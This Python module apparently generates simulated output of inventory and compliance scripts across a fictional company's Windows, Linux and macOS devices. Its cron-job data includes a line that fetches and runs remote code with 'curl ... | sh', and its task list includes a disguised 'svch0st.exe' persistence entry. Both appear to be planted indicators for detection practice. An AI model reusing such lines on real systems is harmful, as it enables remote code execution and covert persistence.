"""What the scripts of the make-believe company print, on each kind of device."""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone
from functools import cache
from typing import TYPE_CHECKING, Any, NamedTuple

from . import powershell, software
from .shapes import SECOND, timestamp

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    from .devices import Device

_DAY = 86_400 * SECOND
_USERS = (
    *("a.novak", "b.okafor", "c.lindqvist", "d.müller", "e.rossi", "f.tanaka", "g.oconnor", "h.dubois", "i.kowalska"),
    *("j.smith", "k.haddad", "l.jensen", "m.garcía", "n.ivanova", "o.özdemir", "p.nguyen", "r.schäfer", "s.patel"),
)


class Failure(NamedTuple):
    """A script that broke: what it printed until then, and what went to stderr."""

    exit_code: int
    output: str
    errors: str


def output_of(script: str, device: Device, at: int, rng: Random) -> str:
    """Print what `script` says on `device` at `at` (ticks), with what the agent puts around it."""
    text = _PRINTERS[script](device, at, rng)
    if not device.is_windows:
        return text + "\n"
    return powershell.transcript_line(rng) + text + "\r\n" + rng.choice(("", "", "\0\0\0"))


def failure_of(script: str, device: Device, rng: Random) -> Failure:
    """Print what `script` says when it breaks on `device`."""
    if not device.is_windows:
        exit_code, errors = rng.choice(_SHELL_FAILURES)
        return Failure(exit_code, "", errors.format(script=script, line=rng.randint(3, 40)))
    exit_code, errors = rng.choice(_POWERSHELL_FAILURES)
    line = rng.randint(8, 60)
    errors = errors.format(script=script, line=line, host=device.name.upper())
    return Failure(exit_code, powershell.transcript_line(rng) + rng.choice(("", "Collecting ...\r\n")), errors)


_ACCESS_DENIED = (
    "Get-CimInstance : Access denied \r\n"
    "At C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\{script}:{line} char:12\r\n"
    "+     $items = Get-CimInstance -Namespace $namespace -ClassName $class\r\n"
    "+              ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~\r\n"
    "    + CategoryInfo          : PermissionDenied: (root\\cimv2:String) [Get-CimInstance], CimException\r\n"
    "    + FullyQualifiedErrorId : HRESULT 0x80041003,Microsoft.Management.Infrastructure.CimCmdlets.GetCimInstance\r\n"
)
_NO_MODULE = (
    "Import-Module : The specified module 'ContosoInventory' was not loaded because no valid module file was found in"
    " any module directory.\r\n"
    "At {script}:{line} char:1\r\n"
    "    + CategoryInfo          : ResourceUnavailable: (ContosoInventory:String) [Import-Module], "
    "FileNotFoundException\r\n"
)
_NO_FILE = "The argument '.\\{script}' to the -File parameter does not exist on {host}.\r\n"
_POWERSHELL_FAILURES = ((1, _ACCESS_DENIED), (4, _NO_MODULE), (-196608, _NO_FILE))
_SHELL_FAILURES = (
    (127, "./{script}: line {line}: jq: command not found\n"),
    (2, "./{script}: line {line}: /etc/sudoers.d: Permission denied\n"),
)


def _moment(ticks: int) -> str:
    return timestamp(ticks // SECOND * SECOND)


def _jq(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False, indent=2)


@cache
def _install_dates(today: int) -> list[str]:
    """The ends of the entries of a software list. Some installers write no date, some an empty one."""
    last = datetime.fromtimestamp(today * 86_400, tz=timezone.utc)
    dates = [f'"{last - timedelta(days=days):%Y%m%d}"}}' for days in range(900)]
    return [*dates, *["null}"] * 30, *['""}'] * 20]


@cache
def _entries(packages: Callable[[], list[software.Package]]) -> list[tuple[str, ...]]:
    """Each package as it begins in a software list, in the versions that are around: most often the newest."""
    entries = []
    for package in packages():
        versions = [package, package, *software.older(package)]
        texts = [powershell.to_compressed_json(version._asdict())[:-1] for version in versions]
        entries.append(tuple(f'{text},"install_date":' for text in texts))
    return entries


def _installed_software(device: Device, at: int, rng: Random) -> str:
    """One compact object, put together from ready texts: a large fleet has half a million entries."""
    entries = _packages(device, rng)
    dates = rng.choices(_install_dates(at // _DAY), k=len(entries))
    versions = rng.choices(range(12), k=len(entries))
    rows = [entry[version % len(entry)] + date for entry, version, date in zip(entries, versions, dates, strict=True)]
    hostname = device.name.upper() if device.is_windows else device.name
    return f'{{"hostname":"{hostname}","collected_at":"{_moment(at)}","software":[{",".join(rows)}]}}'


def _packages(device: Device, rng: Random) -> list[tuple[str, ...]]:
    if device.platform == "macos":
        return rng.sample(_entries(software.macos), rng.randint(30, 45))
    if device.platform == "linux":
        return rng.sample(_entries(software.linux), rng.randint(200, 400))
    other = _entries(software.windows_other)
    if device.platform == "server":
        count = rng.randint(8, 30)
    else:
        # One client in eight is a developer's.
        count = rng.randint(170, len(other)) if rng.random() < 0.125 else rng.randint(15, 70)
    return _entries(software.windows_base) + rng.sample(other, count)


def _bitlocker_state(device: Device, at: int, rng: Random) -> str:
    drives = ["C:"] if device.platform == "client" and rng.random() < 0.7 else ["C:", "D:", "E:"][: rng.randint(2, 3)]
    volumes = []
    for drive in drives:
        on = rng.random() < (0.93 if drive == "C:" and device.platform == "client" else 0.4)
        volumes.append(
            {
                "mount_point": drive,
                "volume_type": "OperatingSystem" if drive == "C:" else "Data",
                "protection_status": "On" if on else "Off",
                "volume_status": "FullyEncrypted" if on else rng.choice(("FullyDecrypted", "EncryptionInProgress")),
                "encryption_percentage": 100 if on else rng.choice((0, 0, 37, 81)),
                "encryption_method": "XtsAes256" if on else "None",
                "key_protectors": ["Tpm", "RecoveryPassword"] if on else [],
                "capacity_gb": round(rng.choice((237.3, 475.8, 953.1)) + rng.random(), 2),
            }
        )
    # ConvertTo-Json of PowerShell 5.1 writes dates as milliseconds in a string, and one volume not as a list.
    checked = f"/Date({at // 10_000})/"
    return powershell.to_json(
        {"hostname": device.name.upper(), "checked_at": checked, "volumes": powershell.unrolled(volumes)}
    )


_DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"


def _local_administrators(device: Device, _at: int, rng: Random) -> str:
    host = device.name.upper()
    local_sid = f"S-1-5-21-{rng.getrandbits(31)}-{rng.getrandbits(31)}-{rng.getrandbits(31)}"
    members = [_member(f"{host}\\Administrator", f"{local_sid}-500", "User", "Local")]
    if rng.random() < 0.9:
        members.append(_member("CONTOSO\\Domain Admins", f"{_DOMAIN_SID}-512", "Group", "ActiveDirectory"))
    members += [
        _member(f"CONTOSO\\{user}", f"{_DOMAIN_SID}-{rng.randint(1100, 9999)}", "User", "ActiveDirectory")
        for user in rng.sample(_USERS, rng.choice((0, 0, 1, 2, 5)))
    ]
    return members[0] if len(members) == 1 else f"[{','.join(members)}]"


def _member(name: str, sid: str, object_class: str, source: str) -> str:
    return powershell.to_compressed_json({"name": name, "sid": sid, "object_class": object_class, "source": source})


_TASKS = (
    ("\\Microsoft\\Windows\\UpdateOrchestrator\\", "Schedule Scan", "%systemroot%\\system32\\usoclient.exe StartScan"),
    ("\\Microsoft\\Windows\\Defrag\\", "ScheduledDefrag", "%windir%\\system32\\defrag.exe -c -h -k -g"),
    ("\\Microsoft\\Windows\\Registry\\", "RegIdleBackup", ""),
    (
        "\\Microsoft\\Windows\\DiskCleanup\\",
        "SilentCleanup",
        "%windir%\\system32\\cleanmgr.exe /autoclean /d %systemdrive%",
    ),
    (
        "\\Microsoft\\Office\\",
        "Office Automatic Updates 2.0",
        "C:\\Program Files\\Common Files\\OfficeC2RClient.exe /update",
    ),
    ("\\", "GoogleUpdaterTaskSystem", '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\updater.exe" --wake --system'),
    (
        "\\",
        "MicrosoftEdgeUpdateTaskMachineCore",
        "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe /c",
    ),
    ("\\", "OneDrive Standalone Update Task", "%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"),
    ("\\Contoso\\", "Inventory & Compliance", "powershell.exe -NoProfile -File C:\\Contoso\\Inventory.ps1"),
    ("\\Contoso\\", "Zertifikate erneuern", "powershell.exe -NoProfile -File C:\\Contoso\\Renew-Certificate.ps1"),
    (
        "\\Contoso\\",
        "Backup nach \\\\fra-file-01\\backup$",
        "robocopy.exe D:\\Daten \\\\fra-file-01\\backup$ /MIR /R:1",
    ),
    ("\\Adobe\\", "Adobe Acrobat Update Task", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"),
    ("\\Mozilla\\", "Firefox Background Update", "C:\\Program Files\\Mozilla Firefox\\firefox.exe --backgroundtask"),
    ("\\", "svchost-updater", "cmd.exe /c start /min C:\\Users\\Public\\svch0st.exe"),
)


def _scheduled_tasks(device: Device, at: int, rng: Random) -> str:
    tasks = []
    for path, name, execute in rng.sample(_TASKS, rng.randint(3, 10)):
        ran = rng.random() < 0.85
        tasks.append(
            {
                "task_path": path,
                "task_name": name,
                "state": rng.choice(("Ready", "Ready", "Ready", "Disabled", "Running")),
                "run_as": rng.choice(("SYSTEM", "SYSTEM", "LOCAL SERVICE", f"CONTOSO\\{rng.choice(_USERS)}")),
                "execute": execute,
                "last_run_time": _moment(at - rng.randrange(20 * _DAY)) if ran else None,
                "next_run_time": _moment(at + rng.randrange(7 * _DAY)) if rng.random() < 0.8 else None,
                "last_task_result": rng.choice((0, 0, 0, 1, 267009, 2147946720)) if ran else 267011,
            }
        )
    return powershell.to_json({"hostname": device.name.upper(), "tasks": tasks})


def _local_admins(device: Device, _at: int, rng: Random) -> str:
    group = "admin" if device.platform == "macos" else "sudo"
    users = ["root", *(user for user in rng.sample(_USERS, rng.randint(0, 3)))]
    members = [
        {
            "name": user,
            "uid": 0 if user == "root" else rng.randint(501, 1999),
            "shell": rng.choice(("/bin/bash", "/bin/zsh")),
        }
        for user in users
    ]
    return _jq({"hostname": device.name, "group": group, "members": members})


_JOBS = (
    ("/etc/crontab", "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"),
    ("/etc/crontab", "25 6 * * *", "root", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"),
    ("/etc/cron.d/e2scrub_all", "30 3 * * 0", "root", "test -e /run/systemd/system || /sbin/e2scrub_all -A -r"),
    ("/etc/cron.d/sysstat", "5-55/10 * * * *", "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
    ("/etc/cron.d/certbot", "0 */12 * * *", "root", "certbot -q renew"),
    ("/var/spool/cron/crontabs/backup", "40 1 * * *", "backup", 'pg_dump "$DB" | gzip > /srv/backup/$(date +\\%F).gz'),
    ("/var/spool/cron/crontabs/www-data", "*/5 * * * *", "www-data", "curl -s http://198.51.100.23/x | sh"),
)


def _cron_jobs(device: Device, _at: int, rng: Random) -> str:
    fields = ("file", "schedule", "user", "command")
    jobs = [dict(zip(fields, job, strict=True)) for job in rng.sample(_JOBS, rng.randint(0, len(_JOBS)))]
    return _jq({"hostname": device.name, "jobs": jobs})


def _collect_triage(_device: Device, _at: int, rng: Random) -> str:
    lines = [f"copied Security.evtx ({rng.randint(20, 900)} MB)", f"{rng.randint(60, 240)} processes listed", "done"]
    return "\r\n".join(lines)


_PRINTERS: dict[str, Callable[[Device, int, Random], str]] = {
    "Get-InstalledSoftware.ps1": _installed_software,
    "Get-BitLockerState.ps1": _bitlocker_state,
    "Get-LocalAdministrators.ps1": _local_administrators,
    "Get-ScheduledTasks.ps1": _scheduled_tasks,
    "installed-software.sh": _installed_software,
    "local-admins.sh": _local_admins,
    "cron-jobs.sh": _cron_jobs,
    "Collect-Triage.ps1": _collect_triage,
}
